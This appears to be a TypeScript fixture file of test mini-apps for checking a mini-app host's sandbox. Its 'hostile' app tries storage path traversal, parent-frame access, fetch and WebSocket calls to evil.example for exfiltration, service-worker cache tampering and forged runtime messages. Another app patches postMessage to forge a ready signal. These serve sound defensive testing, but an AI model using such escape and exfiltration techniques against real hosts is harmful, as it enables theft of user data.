/**
 * Mini-apps the browser tests publish on the fixture distribution server. They use only the bridge
 * client the host injects (`MiniAppBridge`), and record what they observe in
 * `window.__openMiniAppProbe`, which the tests read after switching into the app's frame.
 */
import type { FixtureFiles } from './fixture-distribution.ts';

/** A plain page: shows its version, records the lifecycle events it receives. */
export function plainApp(label: string): FixtureFiles {
  return {
    'index.html': `<!doctype html><html><head><meta charset="utf-8"><title>${label}</title><link rel="stylesheet" href="app.css"></head><body><h1 id="label">${label}</h1><p id="events"></p><script src="app.js"></script></body></html>`,
    'app.css':
      'body{font-family:system-ui,sans-serif;margin:24px;background:#f0fdf4}h1{color:#166534}',
    'app.js': `window.__openMiniAppProbe = { label: ${JSON.stringify(label)}, events: [] };
for (const name of ['app.show', 'app.hide', 'page.show', 'page.hide', 'permissions.change']) {
  MiniAppBridge.on(name, (data) => {
    window.__openMiniAppProbe.events.push({ name, data });
    document.getElementById('events').textContent = window.__openMiniAppProbe.events.map((e) => e.name).join(' ');
  });
}`,
  };
}

/**
 * A page that never becomes ready, and forges the runtime's ready signal with another version's key,
 * as a leftover page of an older version would. The host's client, injected before this script,
 * reports the end of the load event over its runtime port, looking up
 * `MessagePort.prototype.postMessage` when it sends: this page swaps that one report, on the same
 * live port, for the forged one. So the host hears a ready signal, but never one of this version,
 * however the page loads. (Stopping the load event cannot do it: Chromium fires a window's load
 * listeners in the order they were added, capturing or not, and the client's comes first; and
 * document.open() is a no-op while the parser runs this script itself. Nor may the page say hello
 * again: a second hello gives the document a new runtime port and closes the client's.)
 */
export function neverReadyApp(oldVersionKey: string): FixtureFiles {
  return {
    'index.html': `<!doctype html><html><head><meta charset="utf-8"><title>broken</title></head><body><p>this version never becomes ready</p><script src="broken.js"></script></body></html>`,
    'broken.js': `const oldKey = ${JSON.stringify(oldVersionKey)};
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message, ...rest) {
  if (message && message.runtime === 'omp-runtime' && message.kind === 'ready') {
    post.call(this, { runtime: 'omp-runtime', kind: 'page', path: 'index.html', versionKey: oldKey });
    post.call(this, { runtime: 'omp-runtime', kind: 'ready', path: 'index.html', versionKey: oldKey });
    return;
  }
  return post.call(this, message, ...rest);
};`,
  };
}

/** Keeps a secret in every kind of storage it has, so another app can try to read it. */
export function victimApp(): FixtureFiles {
  return {
    'index.html': `<!doctype html><html><head><meta charset="utf-8"><title>victim</title></head><body><h1>Victim</h1><script src="victim.js"></script></body></html>`,
    'victim.js': `window.__openMiniAppProbe = { stored: false };
(async () => {
  await MiniAppBridge.call('storage.set', { key: 'secret', value: 'victim-secret' });
  localStorage.setItem('secret', 'victim-secret');
  document.cookie = 'secret=victim-secret; SameSite=None; Secure';
  document.cookie = 'shared=victim-secret; domain=localhost; SameSite=None; Secure';
  await new Promise((resolve) => {
    const open = indexedDB.open('vault', 1);
    open.onupgradeneeded = () => open.result.createObjectStore('s');
    open.onsuccess = () => {
      const tx = open.result.transaction('s', 'readwrite');
      tx.objectStore('s').put('victim-secret', 'secret');
      tx.oncomplete = resolve;
    };
  });
  window.__openMiniAppProbe = { stored: true, origin: location.origin };
})();`,
  };
}

/** Tries to break out in every way the tests check, and records what happened to each attempt. */
export function hostileApp(options: {
  victimOrigin: string;
  hostOrigin: string;
  distributionUrl: string;
}): FixtureFiles {
  return {
    'index.html': `<!doctype html><html><head><meta charset="utf-8"><title>hostile</title></head><body><h1>Hostile</h1><script src="hostile.js"></script></body></html>`,
    'page2.html': `<!doctype html><html><head><meta charset="utf-8"><title>page two</title></head><body><p id="original">original bytes</p></body></html>`,
    'hostile.js': `const probe = (window.__openMiniAppProbe = { done: false, results: {}, violations: [] });
document.addEventListener('securitypolicyviolation', (event) => probe.violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
const record = (name, value) => { probe.results[name] = value; };
const attempt = async (name, run) => {
  try { record(name, { blocked: false, value: await run() }); }
  catch (error) { record(name, { blocked: true, error: String(error && (error.code || error.name) || error) }); }
};
const call = (method, params) => MiniAppBridge.call(method, params).then((result) => ({ result }), (error) => ({ code: error.code }));
(async () => {
  // Storage of the host and of other mini-apps.
  record('bridgeStorage', await call('storage.get', { key: 'secret' }));
  record('bridgeStorageTraversal', await call('storage.get', { key: '../${'victim'}/secret' }));
  record('localStorage', localStorage.getItem('secret'));
  record('cookies', document.cookie);
  record('indexedDbDatabases', (await indexedDB.databases()).map((d) => d.name));
  // The host's and the victim's windows.
  await attempt('parentDocument', () => window.parent.document.title);
  await attempt('topLocation', () => top.location.href);
  await attempt('parentAdapter', () => typeof window.parent.openMiniAppConformance);
  await attempt('victimFrame', () => window.parent.frames[0].document.title);
  await attempt('navigateTop', () => { top.location.href = 'https://evil.example/steal'; return 'navigated'; });
  await attempt('openPopup', () => { const w = window.open('https://evil.example/popup'); return w === null ? null : 'opened'; });
  // A bridge request sent the old way, around the port, gets no answer [BRG-033].
  record('postMessageBridge', await new Promise((resolve) => {
    window.addEventListener('message', (event) => { if (event.data && event.data.kind === 'response') resolve('answered'); });
    window.parent.postMessage(JSON.stringify({ bridge: 'openminiapp', v: 1, kind: 'request', id: 'x-1', method: 'storage.get', params: { key: 'secret' } }), '*');
    setTimeout(() => resolve('ignored'), 800);
  }));
  // The network outside the allow-list.
  await attempt('fetchElsewhere', () => fetch('https://evil.example/exfiltrate').then((r) => r.status));
  await attempt('fetchDistribution', () => fetch(${JSON.stringify(`${options.distributionUrl}/v1/trust/root.json`)}).then((r) => r.status));
  await attempt('fetchVictim', () => fetch(${JSON.stringify(`${options.victimOrigin}/app/index.html`)}).then((r) => r.status));
  await attempt('fetchHost', () => fetch(${JSON.stringify(`${options.hostOrigin}/__config.json`)}).then((r) => r.status));
  await attempt('websocket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket('wss://evil.example/socket');
    socket.onopen = () => resolve('opened');
    socket.onerror = () => reject(new Error('closed'));
  }));
  await new Promise((resolve) => setTimeout(resolve, 100));
  record('networkRequest', await call('network.request', { url: 'https://evil.example/api' }));
  // Methods whose permission the manifest does not declare.
  record('location', await call('location.getCurrent', {}));
  record('profile', await call('user.getProfile', {}));
  // The runtime: its own workers and files.
  await attempt('registerOwnWorker', () => navigator.serviceWorker.register('/app/evil-sw.js', { scope: '/app/' }).then(() => 'registered'));
  await attempt('registerForgedWorker', () => navigator.serviceWorker.register('/__omp/sw.js?k=forged', { scope: '/app/' }).then(() => 'registered'));
  // Its own version's worker under a narrower scope, to outlive a version change on that page: it never installs.
  record('narrowWorker', await navigator.serviceWorker.register(navigator.serviceWorker.controller.scriptURL, { scope: '/app/index.html' }).then(
    (registration) => new Promise((resolve) => {
      const worker = registration.installing || registration.waiting || registration.active;
      if (!worker) return resolve('gone');
      if (worker.state === 'redundant' || worker.state === 'activated') return resolve(worker.state);
      worker.addEventListener('statechange', () => { if (worker.state === 'redundant' || worker.state === 'activated') resolve(worker.state); });
      setTimeout(() => resolve(worker.state), 3000);
    }),
    (error) => 'refused: ' + String(error && error.name),
  ));
  record('provisionForged', await new Promise((resolve) => {
    const channel = new MessageChannel();
    channel.port1.onmessage = (event) => resolve(event.data);
    const evil = new TextEncoder().encode('<p id="evil">replaced</p>').buffer;
    navigator.serviceWorker.controller.postMessage({ runtime: 'omp-runtime', kind: 'provision', files: [['page2.html', evil]] }, [channel.port2, evil]);
    setTimeout(() => resolve('no answer'), 2000);
  }));
  await attempt('rewriteCache', async () => {
    const names = await caches.keys();
    for (const name of names) {
      const cache = await caches.open(name);
      await cache.put(new Request('/app/page2.html'), new Response('<p id="evil">replaced</p>', { headers: { 'content-type': 'text/html' } }));
    }
    return names.length;
  });
  record('pageAfterTampering', await new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = '/app/page2.html';
    frame.onload = () => resolve(frame.contentDocument && frame.contentDocument.body ? frame.contentDocument.body.innerText : 'unreadable');
    document.body.append(frame);
    setTimeout(() => resolve('no load'), 3000);
  }));
  record('bootstrapInFrame', await new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = '/__omp/bootstrap.html';
    frame.onload = () => { try { resolve(frame.contentDocument ? frame.contentDocument.title : 'cross-origin'); } catch (e) { resolve('blocked'); } };
    document.body.append(frame);
    setTimeout(() => resolve('no load'), 3000);
  }));
  probe.done = true;
})();`,
  };
}

/** Asks for the permissions it declares when the test tells it to. */
export function permissionApp(): FixtureFiles {
  return {
    'index.html': `<!doctype html><html><head><meta charset="utf-8"><title>permissions</title></head><body><h1>Permissions</h1><p id="out"></p><script src="perm.js"></script></body></html>`,
    'perm.js': `window.__openMiniAppProbe = { results: [], events: [] };
MiniAppBridge.on('permissions.change', (data) => window.__openMiniAppProbe.events.push(data));
window.probeCall = (method, params) => {
  const entry = { method, state: 'pending' };
  window.__openMiniAppProbe.results.push(entry);
  MiniAppBridge.call(method, params || {}).then(
    (result) => { entry.state = 'ok'; entry.result = result; },
    (error) => { entry.state = 'error'; entry.code = error.code; },
  );
  return window.__openMiniAppProbe.results.length - 1;
};`,
  };
}

/**
 * A page that uses no bridge client at all, as the conformance suite's probe does: its own script,
 * loaded at the end of the body, takes the init message from the parent and its port, and sends raw
 * envelopes on it [BRG-032] [BRG-034].
 */
export function rawBridgeApp(): FixtureFiles {
  return {
    'index.html': `<!doctype html><html><head><meta charset="utf-8"><title>raw</title><link rel="stylesheet" href="raw.css"></head><body><h1>Raw bridge</h1><script src="raw.js"></script></body></html>`,
    'raw.css': 'body{font-family:system-ui,sans-serif;margin:24px}',
    'raw.js': `const probe = (window.__openMiniAppProbe = { inits: [], log: [], answers: {} });
window.addEventListener('message', (event) => {
  const data = event.data;
  if (!data || data.bridge !== 'openminiapp' || data.kind !== 'init') return;
  probe.inits.push({ fromParent: event.source === window.parent, origin: event.origin, ports: event.ports.length, hostApiVersion: data.hostApiVersion });
  if (probe.port || event.source !== window.parent || event.ports.length !== 1) return;
  probe.port = true;
  const port = event.ports[0];
  port.onmessage = (message) => {
    const value = typeof message.data === 'string' ? JSON.parse(message.data) : message.data;
    probe.log.push(value);
    if (value.kind === 'response') probe.answers[value.id] = value;
  };
  port.postMessage(JSON.stringify({ bridge: 'openminiapp', v: 1, kind: 'request', id: 'raw-1', method: 'host.getInfo', params: {} }));
  port.postMessage({ bridge: 'openminiapp', v: 2, kind: 'request', id: 'raw-2', method: 'host.getInfo', params: {} });
});`,
  };
}

/** Shows its label, and appends it to a list in its origin's storage each time one of its pages runs. */
export function countingApp(label: string): FixtureFiles {
  return {
    'index.html': `<!doctype html><html><head><meta charset="utf-8"><title>${label}</title></head><body><h1>${label}</h1><script src="count.js"></script></body></html>`,
    'count.js': `const runs = JSON.parse(localStorage.getItem('runs') || '[]');
runs.push(${JSON.stringify(label)});
localStorage.setItem('runs', JSON.stringify(runs));
window.__openMiniAppProbe = { label: ${JSON.stringify(label)}, runs };`,
  };
}
